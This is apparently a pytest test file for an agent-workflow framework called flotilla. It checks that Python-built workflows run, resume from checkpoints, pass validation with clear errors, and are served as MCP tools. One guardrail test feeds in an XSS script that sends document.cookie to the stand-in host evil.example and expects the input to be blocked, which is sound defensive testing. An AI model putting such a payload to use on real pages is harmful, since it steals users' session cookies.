"""Python workflows are first-class: a registered graph factory runs through the runner (run
record, checkpoint, resume, rails, spans), validates with clear errors, and is an MCP tool."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from flotilla.agents.models.testing import FunctionModel
from flotilla.audit.errors import ConfigError
from flotilla.graphs import check_spec, load_workflow
from flotilla.graphs.catalog import python_workflows
from flotilla.mcp_servers.gateway import Gateway, GatewayHttp
from tests.mcp.helpers import ServedApp
from tests.support.scripted_openai import ScriptedOpenAI, by_schema
from tests.support.servers import serve_app

from .conftest import ALIASES, TRIAGE_ANSWERS, down_for

EXAMPLE = {"document_triage_python": "flotilla.graphs.python_example:triage"}
INVOICE = (Path(__file__).resolve().parents[2] / "graphs" / "samples" / "invoice.txt").read_text()
KNOWN = {"embedded", *ALIASES}


async def test_a_python_workflow_runs_through_the_runner_like_a_yaml_one(harness) -> None:
    h = harness()
    spec = load_workflow("document_triage_python", EXAMPLE)
    assert spec.kind == "python" and spec.input.description == "A supplier invoice as plain text."
    events = []
    result = await h.runner.run(spec, INVOICE, initiator="test", on_event=events.append)

    assert result.status == "succeeded", result.error
    assert [s["agent"] for s in result.steps] == ["extract", "vendor", "purchase_order", "prior_invoices", "analyze", "decide", "write"]
    assert result.output == result.steps[-1]["output"] and result.output["subject"].startswith("Invoice INV-2026-0412")  # `output="write"`
    assert result.steps[5]["produced_by"] == "function flotilla.agents.document_triage.triage:decide_invoice"
    assert any("has no endpoint configured" in n for n in result.notices)  # the context saw its agents
    assert [e.kind for e in events][-1] == "finished"
    record = h.runs.get_run(result.run_id)
    assert record.workflow == "document_triage_python" and record.status == "succeeded" and record.input == INVOICE
    spans = {s["context"]["span_id"]: s for s in h.spans()}
    [run] = [s for s in spans.values() if s["name"] == "invoke_workflow document_triage_python"]
    assert run["attributes"]["flotilla.workflow_version"] == spec.version()
    agents = [s for s in spans.values() if s["name"].startswith(("invoke_agent ", "step "))]
    assert len(agents) == 7 and {s["parent_id"] for s in agents} == {run["context"]["span_id"]}


async def test_a_failed_python_run_resumes_from_its_checkpoint(harness) -> None:
    model, down = down_for("Invoice")
    h = harness(model)
    spec = load_workflow("document_triage_python", EXAMPLE)
    first = await h.runner.run(spec, INVOICE)
    assert first.status == "failed" and first.error["code"] == "model_unavailable"
    before = len(model.requests)

    down["yes"] = False
    second = await h.runner.resume(spec, first.run_id)
    assert second.status == "succeeded", second.error
    assert [r.schema_name for r in model.requests[before:]] == ["Invoice"]
    assert h.runs.get_run(first.run_id).status == "succeeded"


async def test_input_rails_guard_a_python_workflow(harness) -> None:
    from flotilla.guardrails import Guardrails

    rails = Guardrails(
        {
            "presidio": {"enabled": False},
            "yara": {"points": ["input"], "rulesets": ["xss"]},
            "injection_classifier": {"enabled": False},
            "content_safety": {"enabled": False},
            "tool_screen": {"enabled": False},
            "llama_guard": {"enabled": False},
        }
    )
    model = FunctionModel(lambda request: json.dumps(TRIAGE_ANSWERS[request.schema_name]))
    h = harness(model, rails=rails)
    attack = "Invoice <script>document.location='http://evil.example/?c='+document.cookie</script>"
    result = await h.runner.run(load_workflow("document_triage_python", EXAMPLE), attack)
    assert result.status == "blocked" and result.error["point"] == "input"
    assert model.requests == [] and h.runs.get_run(result.run_id).status == "blocked"


async def test_the_gateway_lists_and_runs_registered_python_workflows(harness) -> None:
    h = harness()
    http = GatewayHttp(Gateway(lambda: h.runner, registered=EXAMPLE), token=None)
    with ServedApp(http.app("/mcp")) as served:
        async with Client(streamable_http_client(f"{served.url}/mcp"), mode="legacy") as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            result = await client.session.call_tool("document_triage_python", {"input": INVOICE})
    assert {"document_triage", "research", "document_triage_python"} <= set(tools)
    tool = tools["document_triage_python"]
    assert tool.description.startswith("Triage a supplier invoice") and "built in Python" in tool.description
    assert tool.input_schema["properties"]["input"]["description"] == "A supplier invoice as plain text."
    assert not result.is_error, result.content
    assert result.structured_content["status"] == "succeeded" and result.structured_content["steps"] == 7
    assert h.runs.get_run(result.structured_content["run_id"]).workflow == "document_triage_python"


# -- validation: every way a factory can be wrong is a clear error -------------------------------

FLOWS = '''
from langgraph.graph import END, START, StateGraph
from typing import TypedDict
from flotilla.graphs.compile import RunState


def good(ctx):
    """A one-node graph."""
    graph = StateGraph(RunState)
    graph.add_node("noop", lambda state: {})
    graph.add_edge(START, "noop")
    graph.add_edge("noop", END)
    return graph


def compiled(ctx):
    return good(ctx).compile()


def not_a_graph(ctx):
    return {"nodes": []}


class Bare(TypedDict):
    text: str


def wrong_state(ctx):
    graph = StateGraph(Bare)
    graph.add_node("noop", lambda state: {})
    graph.add_edge(START, "noop")
    return graph


def unknown_alias(ctx):
    ctx.model("no-such-model")
    return good(ctx)


def no_tool_server(ctx):
    ctx.tool_view(["crm.*"])
    return good(ctx)


def no_entry(ctx):
    graph = StateGraph(RunState)
    graph.add_node("noop", lambda state: {})
    return graph


def raises(ctx):
    raise RuntimeError("the author's bug")


NOT_CALLABLE = 42
'''


@pytest.fixture
def flows(tmp_path: Path, monkeypatch) -> Path:
    (tmp_path / "flows_under_test.py").write_text(FLOWS)
    monkeypatch.syspath_prepend(str(tmp_path))
    return tmp_path


@pytest.mark.parametrize(
    ("ref", "message"),
    [
        ("flows_under_test:compiled", "returned a compiled graph; return the StateGraph before .compile()"),
        ("flows_under_test:not_a_graph", "returned dict, not a langgraph StateGraph"),
        ("flows_under_test:wrong_state", "the graph's state lacks input, outputs, steps; build it on flotilla.graphs.RunState"),
        ("flows_under_test:unknown_alias", "unknown model alias 'no-such-model'; declare it under `models:`"),
        ("flows_under_test:no_tool_server", "tool pattern(s) 'crm.*' match no configured MCP server (configured: documents, ledger)"),
        ("flows_under_test:no_entry", "the graph does not compile"),
        ("flows_under_test:raises", "the factory flows_under_test:raises raised RuntimeError: the author's bug"),
    ],
)
def test_validate_builds_the_graph_and_names_each_problem(flows: Path, ref: str, message: str) -> None:
    spec = load_workflow("flow", {"flow": ref})
    [problem] = check_spec(spec, KNOWN, tool_servers=["documents", "ledger"])
    assert problem.file == ref and message in problem.message and problem.message.startswith("Python workflow 'flow'")


@pytest.mark.parametrize(
    ("ref", "message"),
    [
        ("no_such_module_here:build", "cannot import module 'no_such_module_here'"),
        ("flows_under_test:missing", "module 'flows_under_test' has no attribute 'missing'"),
        ("flows_under_test", "is not of the form `package.module:name`"),
        ("flows_under_test:NOT_CALLABLE", "is a int, not a function taking a WorkflowContext"),
    ],
)
def test_a_factory_path_that_does_not_resolve_is_a_config_error(flows: Path, ref: str, message: str) -> None:
    with pytest.raises(ConfigError, match="does not resolve|not a function") as info:
        load_workflow("flow", {"flow": ref})
    assert message in info.value.message


def test_a_good_factory_validates_and_its_docstring_describes_it(flows: Path) -> None:
    spec = load_workflow("flow", {"flow": "flows_under_test:good"})
    assert check_spec(spec, KNOWN) == [] and spec.description == "A one-node graph."
    assert check_spec(load_workflow("document_triage_python", EXAMPLE), KNOWN, tool_servers=["documents", "ledger"]) == []
    with pytest.raises(ConfigError, match="known workflows: .*flow"):
        load_workflow("flo", {"flow": "flows_under_test:good"})


def test_entry_points_register_python_workflows(tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "flows_under_test.py").write_text(FLOWS)
    dist = tmp_path / "flows_under_test-1.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: flows-under-test\nVersion: 1.0\n")
    (dist / "entry_points.txt").write_text("[flotilla.workflows]\nep_flow = flows_under_test:good\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    assert python_workflows()["ep_flow"] == "flows_under_test:good"
    spec = load_workflow("ep_flow")
    assert spec.kind == "python" and check_spec(spec, KNOWN) == []


def test_cli_runs_validates_and_audits_a_python_workflow_from_flotilla_yaml(tmp_path: Path, flows: Path) -> None:
    server = ScriptedOpenAI(default=by_schema(TRIAGE_ANSWERS))
    with serve_app(server.app()) as url:
        lines = ["workflows:", "  triage_py: flotilla.graphs.python_example:triage", "  broken_py: flows_under_test:not_a_graph", "models:"]
        for alias in ALIASES:
            lines += [f"  {alias}:", "    provider: openai-compatible", f"    base_url: {url}/v1", f"    model: {alias}", "    max_retries: 0"]
        (tmp_path / "flotilla.yaml").write_text("\n".join(lines) + "\n")
        env = {
            **os.environ,
            "FLOTILLA_CONFIG": str(tmp_path / "flotilla.yaml"),
            "FLOTILLA_DATA_DIR": str(tmp_path / "data"),
            "FLOTILLA_CACHE_DIR": str(tmp_path / "cache"),
            "PYTHONPATH": os.pathsep.join([str(flows), os.environ.get("PYTHONPATH", "")]),
        }

        def flotilla(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
            return subprocess.run([sys.executable, "-m", "flotilla.runtime", *args], input=stdin, capture_output=True, env=env, cwd=tmp_path, timeout=180)

        valid = flotilla("validate", "triage_py")
        broken = flotilla("validate", "broken_py")
        ran = flotilla("run", "triage_py", "--input", "-", "--json", stdin=INVOICE.encode())
        listed = flotilla("audit", "runs", "--json")

    assert valid.returncode == 0, valid.stderr.decode()
    assert "ok triage_py: Python workflow from flotilla.graphs.python_example:triage" in " ".join(valid.stdout.decode().split())
    assert broken.returncode == 2 and "returned dict, not a langgraph StateGraph" in broken.stderr.decode()
    assert "Traceback" not in broken.stderr.decode()
    assert ran.returncode == 0, ran.stderr.decode()
    result = json.loads(ran.stdout)
    assert result["status"] == "succeeded" and result["output"]["subject"] == "Invoice INV-2026-0412: approved"
    audited = {r["run_id"]: r for r in json.loads(listed.stdout)}
    assert audited[result["run_id"]]["workflow"] == "triage_py"
    assert audited[result["run_id"]]["status"] == "succeeded"



def test_chain_nodes_runs_the_nodes_in_the_order_given_and_refuses_an_empty_chain() -> None:
    from flotilla.graphs import chain_nodes

    def step(name: str):
        return lambda state: {"outputs": {name: len(state["outputs"])}}  # how many steps ran before it

    graph = chain_nodes({"b": step("b"), "a": step("a"), "c": step("c")}).compile()
    final = graph.invoke({"input": "x", "outputs": {}, "steps": []})
    assert final["outputs"] == {"b": 0, "a": 1, "c": 2}
    with pytest.raises(ConfigError, match="at least one node"):
        chain_nodes({})
